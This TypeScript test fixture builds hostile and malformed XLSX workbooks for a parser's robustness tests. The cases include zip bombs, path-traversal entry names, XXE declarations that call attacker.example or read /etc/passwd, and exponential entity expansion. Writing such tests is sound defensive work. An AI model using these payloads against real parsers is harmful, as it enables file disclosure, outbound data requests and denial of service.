import { crc32 } from "../../src/xlsx/crc32";
import { bookParts, mainNamespace, zipParts } from "./packageBuilder";
import { rawZip, zip64Field, type RawEntry } from "./rawZip";

/** A workbook built to harm or to confuse, and what is right to do with it: a refusal by name, or the texts and numbers of its first row. */
export interface HostileBook {
  readonly name: string;
  readonly make: () => Uint8Array;
  readonly expected: string | readonly unknown[];
}

const sheetPath = "xl/worksheets/sheet1.xml";
const one = '<row r="1"><c r="A1"><v>1</v></c></row>';
const stringsPath = "xl/sharedStrings.xml";

type Parts = Record<string, string | Uint8Array>;

function parts(sheet: string, changes: Parts = {}): Parts {
  return { ...bookParts({ sheets: { A: sheet } }), ...changes };
}

function entries(changes: Parts = {}): RawEntry[] {
  return Object.entries(parts(one, changes)).map(([name, content]) => ({ name, content }));
}

/** The entries with one of them changed. */
function lying(name: string, change: Partial<RawEntry>, changes: Parts = {}): Uint8Array {
  return rawZip(entries(changes).map((entry) => (entry.name === name ? { ...entry, ...change } : entry)));
}

function sheet(inner: string, root = `worksheet xmlns="${mainNamespace}"`): string {
  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<${root}>${inner}</${root.split(" ")[0]!}>`;
}

const withSheet =
  (inner: string, changes: Parts = {}) =>
  (): Uint8Array =>
    // Packing long sheets would take longer than reading them.
    zipParts(parts(inner, changes), inner.length > 1_000_000 ? 0 : 6);

const withStrings = (strings: string, cells: string, styles?: string) => (): Uint8Array =>
  zipParts(bookParts({ sheets: { A: cells }, strings, ...(styles ? { styles } : {}) }));

function utf16(text: string, encoding: "utf-16le" | "utf-16be"): Uint8Array {
  const bytes = Buffer.from(`\ufeff${text.replace('encoding="UTF-8"', 'encoding="UTF-16"')}`, "utf16le");
  return new Uint8Array(encoding === "utf-16be" ? bytes.swap16() : bytes);
}

const everyPart = [
  "[Content_Types].xml",
  "_rels/.rels",
  "xl/workbook.xml",
  "xl/_rels/workbook.xml.rels",
  sheetPath,
  "xl/styles.xml",
  stringsPath,
];

const declarations = {
  "an external DTD": '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">',
  "an entity that reads a file": '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>',
  "entities that multiply": `<!DOCTYPE x [<!ENTITY a "${"a".repeat(100)}"><!ENTITY b "${"&a;".repeat(100)}"><!ENTITY c "${"&b;".repeat(100)}">]>`,
  "a parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>',
};

function withDeclaration(path: string, declaration: string): Uint8Array {
  const all = parts(one);
  all[path] = (all[path] as string).replace(/(<\?xml[^>]*\?>)/, `$1${declaration}`);
  return zipParts(all);
}

const million = 1_048_576;

/** The generator's list (reliability threats T6 to T9, T11). */
export const hostileBooks: readonly HostileBook[] = [
  // Archives.
  {
    name: "a bomb of one entry that tells its size",
    make: () => zipParts(parts("", { [sheetPath]: new Uint8Array(40_000_000).fill(0x20) })),
    expected: "hostile",
  },
  {
    name: "a bomb that tells a small size",
    make: () => lying(sheetPath, { size: 2000, localSize: 2000 }, { [sheetPath]: new Uint8Array(40_000_000).fill(0x20) }),
    expected: "hostile",
  },
  {
    name: "a bomb in a part that nobody reads",
    make: () => lying("xl/media/a.bin", { size: 100 }, { "xl/media/a.bin": new Uint8Array(50_000_000) }),
    expected: [1],
  },
  {
    name: "many entries that together declare more than a gigabyte",
    make: () =>
      rawZip([...entries(), ...Array.from({ length: 60 }, (_, i) => ({ name: `xl/media/${i}.bin`, content: "", size: 30_000_000 }))]),
    expected: "too-large",
  },
  {
    name: "70,000 entries",
    make: () => rawZip([...entries(), ...Array.from({ length: 65_000 }, (_, i) => ({ name: `x/${i}`, content: "", method: 0 }))]),
    expected: "hostile",
  },
  {
    name: "an archive inside the archive, which is nobody's to open",
    make: () => zipParts(parts(one, { "xl/embeddings/book.xlsx": zipParts({ "a.bin": new Uint8Array(20_000_000) }) })),
    expected: [1],
  },
  {
    name: "an archive of archives without a workbook",
    make: () => zipParts({ "0.zip": zipParts({ "1.zip": zipParts({ "2.bin": new Uint8Array(10_000_000) }) }) }),
    expected: "not-xlsx",
  },
  {
    name: "entries that share their bytes",
    make: () =>
      rawZip([
        ...entries({ "xl/kernel.xml": "x".repeat(9999) }),
        ...Array.from({ length: 200 }, (_, i) => ({ name: `xl/more${i}.xml`, content: "x".repeat(9999), sharesBytesOf: 7 })),
      ]),
    expected: "hostile",
  },
  { name: "a local size that differs, which no one trusts", make: () => lying(sheetPath, { localSize: 7 }), expected: [1] },
  { name: "a directory that declares a byte too few", make: () => lying(sheetPath, { size: sheet(one).length }), expected: "broken" },
  { name: "a directory that declares too much", make: () => lying(sheetPath, { size: 5_000_000 }), expected: "broken" },
  { name: "a directory that declares nothing", make: () => lying(sheetPath, { size: 0 }), expected: "broken" },
  { name: "a packed size beyond the file", make: () => lying(sheetPath, { packedSize: 0x7fffffff }), expected: "broken" },
  {
    name: "Zip64 sizes of 2^63",
    make: () => lying(sheetPath, { size: 0xffffffff, packedSize: 0xffffffff, extra: zip64Field(2n ** 63n, 2n ** 63n) }),
    expected: "hostile",
  },
  {
    name: "a Zip64 field that holds the true sizes",
    make: () => {
      const content = bookParts({ sheets: { A: one } })[sheetPath] as string;
      return lying(sheetPath, { size: 0xffffffff, extra: zip64Field(BigInt(content.length)) });
    },
    expected: [1],
  },
  { name: "a Zip64 field that is missing", make: () => lying(sheetPath, { size: 0xffffffff }), expected: "hostile" },
  { name: "more entries declared than there are", make: () => rawZip(entries(), { count: 60_000 }), expected: "broken" },
  { name: "equal names", make: () => rawZip([...entries(), { name: sheetPath, content: "<a/>" }]), expected: "hostile" },
  { name: "names equal but for case", make: () => rawZip([...entries(), { name: "XL/Styles.XML", content: "<a/>" }]), expected: "hostile" },
  {
    name: "names equal but for the slash",
    make: () => rawZip([...entries(), { name: "xl\\styles.xml", content: "<a/>" }]),
    expected: "hostile",
  },
  ...["../../etc/passwd", "xl/../../evil.xml", "..\\..\\evil.xml", "C:\\Windows\\evil.xml", "xl/a\0.xml"].map((name) => ({
    name: `an entry named ${JSON.stringify(name)}`,
    make: () => rawZip([...entries(), { name, content: "<a/>" }]),
    expected: "hostile",
  })),
  {
    name: "an absolute name, which stays inside",
    make: () => rawZip([...entries(), { name: "/etc/passwd", content: "x" }]),
    expected: [1],
  },
  { name: "two names for one entry", make: () => lying(sheetPath, { localName: "xl/worksheets/sheet2.xml" }), expected: "hostile" },
  { name: "an entry under a password", make: () => lying(sheetPath, { flags: 1 }), expected: "encrypted" },
  {
    name: "a method of compression that Office has not",
    make: () => lying(sheetPath, { method: 12, packed: new Uint8Array(9) }),
    expected: "broken",
  },
  { name: "packed data cut off", make: () => lying(sheetPath, { packed: new Uint8Array([0xed, 0xbd]) }), expected: "broken" },
  { name: "packed data of noise", make: () => lying(sheetPath, { packed: new Uint8Array(400).fill(0xa5) }), expected: "broken" },
  { name: "a wrong checksum", make: () => lying(sheetPath, { crc: crc32(new Uint8Array(3)) }), expected: "broken" },
  { name: "sizes behind the data", make: () => rawZip(entries().map((entry) => ({ ...entry, descriptor: true }))), expected: [1] },
  { name: "a comment of zeros behind the directory, cut off", make: () => rawZip(entries()).subarray(0, -1), expected: "broken" },

  // Declarations.
  ...everyPart.flatMap((path) =>
    Object.entries(declarations).map(([what, declaration]) => ({
      name: `${what} in ${path}`,
      make: () => withDeclaration(path, declaration),
      expected: "hostile",
    })),
  ),
  ...(["utf-16le", "utf-16be"] as const).map((encoding) => ({
    name: `a DTD in ${encoding}`,
    make: () => zipParts(parts("", { [sheetPath]: utf16(`<!DOCTYPE x [<!ENTITY a "b">]>${sheet("<sheetData/>")}`, encoding) })),
    expected: "hostile",
  })),
  { name: "an entity that nobody declared", make: withSheet('<row r="1"><c r="A1" t="str"><v>&xxe;</v></c></row>'), expected: ["&xxe;"] },

  // Structure.
  { name: "a workbook without its relationships", make: () => without("xl/_rels/workbook.xml.rels"), expected: "broken" },
  { name: "a package without relationships", make: () => without("_rels/.rels"), expected: "broken" },
  { name: "a package without content types", make: () => without("[Content_Types].xml"), expected: "not-xlsx" },
  { name: "a package without its workbook", make: () => without("xl/workbook.xml"), expected: "broken" },
  { name: "a sheet whose part is missing", make: () => without(sheetPath), expected: "broken" },
  { name: "no styles", make: () => without("xl/styles.xml"), expected: [1] },
  {
    name: "no shared strings where cells ask for them",
    make: () => zipParts(omit(parts('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), stringsPath)),
    expected: "broken",
  },
  ...["../../../../etc/passwd", "/../../etc/passwd", "file:///etc/passwd", "..\\..\\..\\etc\\passwd", "http://attacker.example/s.xml"].map(
    (target) => ({
      name: `a sheet that points to ${target}`,
      make: () => {
        const all = parts(one);
        const path = "xl/_rels/workbook.xml.rels";
        all[path] = (all[path] as string).replace("worksheets/sheet1.xml", target);
        return zipParts(all);
      },
      expected: "broken",
    }),
  ),
  {
    name: "a workbook that is its own sheet",
    make: () => {
      const all = parts(one);
      const path = "xl/_rels/workbook.xml.rels";
      all[path] = (all[path] as string).replace("worksheets/sheet1.xml", "workbook.xml");
      return zipParts(all);
    },
    expected: "broken",
  },
  { name: "a sheet with no name", make: () => zipParts(bookParts({ sheets: { "": one } })), expected: [1] },
  { name: "an empty sheet part", make: () => zipParts(parts("", { [sheetPath]: "" })), expected: "broken" },
  {
    name: "elements 100,000 deep in a sheet",
    make: () => zipParts(parts(`<sheetData>${"<a>".repeat(100_000)}${"</a>".repeat(100_000)}</sheetData>`)),
    expected: [],
  },
  {
    name: "elements 100,000 deep in a tree",
    make: () => zipParts(bookParts({ sheets: { A: one }, styles: "<a>".repeat(100_000) + "</a>".repeat(100_000) })),
    expected: "hostile",
  },
  {
    name: "an element of 100,000 attributes",
    make: withSheet(`<sheetFormatPr ${Array.from({ length: 100_000 }, (_, i) => `a${i}="1"`).join(" ")}/><sheetData>${one}</sheetData>`),
    expected: [1],
  },
  { name: "a name of a million letters", make: withSheet(`<${"a".repeat(1_000_000)}/><sheetData>${one}</sheetData>`), expected: [1] },
  { name: "a comment of a million hyphens", make: withSheet(`<!--${"- ".repeat(500_000)}--><sheetData>${one}</sheetData>`), expected: [1] },
  { name: "half a million comments", make: withSheet(`<sheetData>${"<!---->".repeat(500_000)}${one}</sheetData>`), expected: [1] },
  {
    name: "half a million unclosed quotes",
    make: withSheet(`<sheetData><row r="1">${'<c r="'.repeat(500_000)}</row></sheetData>`),
    expected: "broken",
  },

  // Sizes.
  {
    name: "a dimension of the whole sheet",
    make: withSheet(`<dimension ref="A1:XFD1048576"/><sheetData>${one}</sheetData>`),
    expected: [1],
  },
  { name: "a dimension of no sheet", make: withSheet(`<dimension ref="A1:ZZZZZ99999999"/><sheetData>${one}</sheetData>`), expected: [1] },
  {
    name: "looks for each of 16,384 columns",
    make: withSheet(
      `<cols>${Array.from({ length: 16_384 }, (_, i) => `<col min="${i + 1}" max="${i + 1}" style="0" hidden="1"/>`).join("")}</cols><sheetData>${one}</sheetData>`,
    ),
    expected: [1],
  },
  {
    name: "hidden columns named 20,000 times over",
    make: withSheet(`<cols>${'<col min="1" max="16384" hidden="1"/>'.repeat(20_000)}</cols><sheetData>${one}</sheetData>`),
    expected: "hostile",
  },
  {
    name: "hidden columns up to 10^300",
    make: withSheet(`<cols><col min="-5" max="1e300" hidden="1"/></cols><sheetData>${one}</sheetData>`),
    expected: [1],
  },
  {
    name: "a million merged ranges",
    make: withSheet(
      `<sheetData>${one}</sheetData><mergeCells>${Array.from({ length: 1_000_000 }, (_, i) => `<mergeCell ref="A${i + 1}:B${i + 1}"/>`).join("")}</mergeCells>`,
    ),
    expected: "too-large",
  },
  {
    name: "a merged range of the whole sheet",
    make: withSheet(`<sheetData>${one}</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>`),
    expected: [1],
  },
  {
    name: "one text of 32,767 letters in 104,000 cells",
    make: withStrings(
      `<si><t>${"a".repeat(32_767)}</t></si>`,
      Array.from({ length: 1040 }, (_, r) => `<row r="${r + 1}">${'<c t="s"><v>0</v></c>'.repeat(100)}</row>`).join(""),
    ),
    expected: "too-large",
  },
  {
    name: "fonts of rich texts times looks",
    make: withStrings(
      Array.from({ length: 2000 }, (_, i) => `<si><r><rPr><rFont val="F${i}"/></rPr><t>x</t></r></si>`).join(""),
      Array.from(
        { length: 100 },
        (_, r) => `<row r="${r + 1}">${Array.from({ length: 2000 }, (_, i) => `<c s="${r}" t="s"><v>${i}</v></c>`).join("")}</row>`,
      ).join(""),
      `<fonts><font><name val="A"/></font></fonts><cellXfs>${'<xf numFmtId="0" fontId="0"/>'.repeat(100)}</cellXfs>`,
    ),
    expected: Array.from({ length: 2000 }, () => "x"),
  },
  {
    name: "a text beyond Excel's length",
    make: withSheet(`<row r="1"><c t="inlineStr"><is><t>${"a".repeat(40_000)}</t></is></c></row>`),
    expected: "too-large",
  },
  {
    name: "a number of a million digits",
    make: withSheet(`<row r="1"><c><v>${"1".repeat(1_000_000)}</v></c></row>`),
    expected: "too-large",
  },
  { name: "the number 1e999", make: withSheet('<row r="1"><c><v>1e999</v></c></row>'), expected: ["1e999"] },
  {
    name: "a date beyond all calendars",
    make: withStrings(
      "",
      '<row r="1"><c s="0"><v>1e15</v></c></row>',
      '<fonts><font/></fonts><cellXfs><xf numFmtId="14" fontId="0"/></cellXfs>',
    ),
    expected: [1e15],
  },
  { name: "a look that is not there", make: withSheet('<row r="1"><c r="A1" s="4294967296"><v>1</v></c></row>'), expected: [1] },
  {
    name: "a look of a thousand digits",
    make: withSheet(`<row r="1"><c r="A1" s="${"9".repeat(1000)}"><v>1</v></c></row>`),
    expected: [1],
  },
  {
    name: "a text whose number is beyond the list",
    make: withStrings("<si><t>a</t></si>", '<row r="1"><c t="s"><v>99999999999999999999</v></c></row>'),
    expected: "broken",
  },
  {
    name: "a number format of a million brackets",
    make: withStrings(
      "",
      '<row r="1"><c s="0"><v>1</v></c></row>',
      `<numFmts><numFmt numFmtId="200" formatCode="${"[".repeat(1_000_000)}"/></numFmts><fonts><font/></fonts><cellXfs><xf numFmtId="200"/></cellXfs>`,
    ),
    expected: [1],
  },
  {
    name: "a number format of a million quotes",
    make: withStrings(
      "",
      '<row r="1"><c s="0"><v>1</v></c></row>',
      `<numFmts><numFmt numFmtId="200" formatCode='${'"\\'.repeat(500_000)}'/></numFmts><fonts><font/></fonts><cellXfs><xf numFmtId="200"/></cellXfs>`,
    ),
    expected: [1],
  },
  {
    name: "a cell in every row, far out",
    make: withSheet(Array.from({ length: 5000 }, (_, i) => `<row r="${i * 200 + 1}"><c r="XFD${i * 200 + 1}"><v>1</v></c></row>`).join("")),
    expected: "too-large",
  },
  {
    name: "the same row 200,000 times",
    make: withSheet('<row r="1"><c r="A1"><v>1</v></c><c r="CV1"><v>2</v></c></row>'.repeat(200_001)),
    expected: "too-large",
  },
  {
    name: "the same row 20,000 times, a cell wider each time",
    make: withSheet(Array.from({ length: 2000 }, (_, i) => `<row r="1"><c><v>1</v></c>${i % 2 ? "<c><v>2</v></c>" : ""}</row>`).join("")),
    expected: [1, 2],
  },
  {
    name: "the same row 2,000 times, 10,000 cells wide",
    make: withSheet('<row r="1"><c r="NTP1"><v>1</v></c></row>'.repeat(1990)),
    expected: Array.from({ length: 10_000 }, (_, i) => (i === 9999 ? 1 : null)),
  },
  {
    name: "a million empty rows with looks",
    make: withSheet(
      Array.from({ length: 1_000_000 }, (_, i) => `<row r="${i + 1}" s="0" customFormat="1"/>`).join("") +
        `<row r="${million}"><c r="A${million}"><v>1</v></c></row>`,
    ),
    expected: [1],
  },
  { name: "a row beyond the sheet", make: withSheet(`<row r="${million + 1}"><c><v>1</v></c></row>`), expected: "broken" },
  ...["0", "-1", "1.5", "1e3", "x", ""].map((number) => ({
    name: `a row numbered ${JSON.stringify(number)}`,
    make: withSheet(`<row r="${number}"><c><v>1</v></c></row>`),
    expected: number === "1e3" ? [1] : "broken",
  })),
  { name: "a column beyond the sheet", make: withSheet('<row r="1"><c r="XFE1"><v>1</v></c></row>'), expected: "broken" },
  {
    name: "a cell of a thousand letters",
    make: withSheet(`<row r="1"><c r="${"A".repeat(1000)}1"><v>1</v></c></row>`),
    expected: "broken",
  },
  { name: "a cell of no known type", make: withSheet('<row r="1"><c r="A1" t="&#115;"><v>0</v></c></row>'), expected: "broken" },
  { name: "a cell whose place hides in references", make: withSheet('<row r="1"><c r="&#65;1"><v>0</v></c></row>'), expected: "broken" },
  { name: "more cells in a row than columns", make: withSheet(`<row r="1">${"<c/>".repeat(16_385)}</row>`), expected: "broken" },

  // Odd, but sound.
  { name: "cells out of order", make: withSheet('<row r="1"><c r="C1"><v>3</v></c><c r="A1"><v>1</v></c></row>'), expected: [1, null, 3] },
  {
    name: "rows out of order",
    make: withSheet('<row r="2"><c r="A2"><v>2</v></c></row><row r="1"><c r="A1"><v>1</v></c></row>'),
    expected: [1],
  },
  { name: "rows and cells without a place", make: withSheet("<row><c><v>1</v></c><c/><c><v>3</v></c></row>"), expected: [1, null, 3] },
  ...(["utf-16le", "utf-16be"] as const).map((encoding) => ({
    name: `all parts in ${encoding}`,
    make: () => zipParts(Object.fromEntries(Object.entries(parts(one)).map(([path, xml]) => [path, utf16(xml as string, encoding)]))),
    expected: [1],
  })),
  {
    name: "CDATA in texts and values",
    make: withStrings(
      "<si><t><![CDATA[a<b>&amp;]]]]><![CDATA[>]]></t></si>",
      '<row r="1"><c t="s"><v><![CDATA[0]]></v></c><c><v><![CDATA[7]]></v></c><c t="inlineStr"><is><t>x<![CDATA[<y]]></t></is></c></row>',
    ),
    expected: ["a<b>&amp;]]>", 7, "x<y"],
  },
  {
    name: "comments and instructions inside cells",
    make: withSheet(
      '<row r="1"><!-- <c r="A1"><v>9</v></c> --><c r="A1"><!--a--><v><!-- 9 -->1<?x 2?>2</v></c><?y <c?><c r="B1" t="inlineStr"><is><t>a<!-- > -->b</t></is></c></row>',
    ),
    expected: [12, "ab"],
  },
  {
    name: "character references",
    make: withSheet('<row r="1"><c r="A1" t="str"><v>&#x1EC7;&#7879;&#x1F600;&lt;&#38;amp;</v></c><c><v>&#49;2</v></c></row>'),
    expected: ["ệệ😀<&amp;", 12],
  },
  {
    name: "references to no character",
    make: withSheet('<row r="1"><c t="str"><v>&#x110000;&#xFFFFFF;&#;&#x;</v></c></row>'),
    expected: ["\ufffd\ufffd&#;&#x;"],
  },
  {
    name: "prefixes on every element",
    make: () =>
      zipParts(
        parts("", {
          [sheetPath]: sheet(
            '<x:sheetData><x:row r="1"><x:c r="A1" t="inlineStr"><x:is><x:t>a</x:t></x:is></x:c><x:c r="B1"><x:v>2</x:v></x:c></x:row></x:sheetData>',
            `x:worksheet xmlns:x="${mainNamespace}"`,
          ),
        }),
      ),
    expected: ["a", 2],
  },
  {
    name: "single quotes and wide spaces in tags",
    make: withSheet("<row\n\tr = '1' ><c r\n= 'A1'   ><v  >1</v\n></c ></row >"),
    expected: [1],
  },
  {
    name: "a greater-than sign in an attribute",
    make: withSheet('<row r="1" x="a>b"><c r="A1" x=">/>"><v>1</v></c></row>'),
    expected: [1],
  },
  {
    name: "foreign cells among the extensions",
    make: withSheet(
      `<sheetData>${one.replace("</c>", '<extLst><ext><c r="B1"><v>9</v></c></ext></extLst></c>')}</sheetData><extLst><ext><mergeCell ref="x"/></ext></extLst>`,
    ),
    expected: [1],
  },
  {
    name: "a cell named __proto__",
    make: withStrings("<si><t>__proto__</t></si>", '<row r="1"><c t="s"><v>0</v></c><c t="e"><v>__proto__</v></c></row>'),
    expected: ["__proto__", { error: "__proto__" }],
  },
  {
    name: "a byte order mark before the parts",
    make: () => zipParts(Object.fromEntries(Object.entries(parts(one)).map(([path, xml]) => [path, `\ufeff${xml as string}`]))),
    expected: [1],
  },
  {
    name: "bytes that are no UTF-8",
    make: () =>
      zipParts(
        parts("", {
          [sheetPath]: new Uint8Array(Buffer.from(sheet('<sheetData><row r="1"><c t="str"><v>a\xe9b</v></c></row></sheetData>'), "latin1")),
        }),
      ),
    expected: ["a\ufffdb"],
  },
];

function omit(all: Parts, path: string): Parts {
  return Object.fromEntries(Object.entries(all).filter(([name]) => name !== path));
}

function without(path: string): Uint8Array {
  return zipParts(omit(parts(one), path));
}
